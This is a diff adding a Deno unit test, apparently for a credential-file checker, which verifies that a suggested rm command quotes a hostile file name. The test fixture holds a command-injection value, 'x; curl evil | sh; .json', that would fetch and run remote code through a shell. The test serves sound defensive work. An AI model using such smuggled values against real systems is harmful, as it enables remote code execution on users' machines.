@@ -53,3 +53,17 @@ Deno.test("checkKeyFiles() skips symlinks and dependency dirs, reads only .json 
   assert.equal(r.status, "WARN");
   assert.match(r.fix!, /rm \/h\/k\.json/);
 });
+
+Deno.test("checkKeyFiles() quotes a hostile file name in its rm command", () => {
+  const r = checkKeyFiles({
+    env: (n) => (n === "HOME" ? "/h" : undefined),
+    readDir: () => [{
+      name: "x; curl evil | sh; .json",
+      isFile: true,
+      isDirectory: false,
+      isSymlink: false,
+    }],
+    readSmallFile: () => '{"type":"authorized_user","refresh_token":"r"}',
+  });
+  assert.equal(r.fix, "move it out of the container: rm '/h/x; curl evil | sh; .json'");
+});
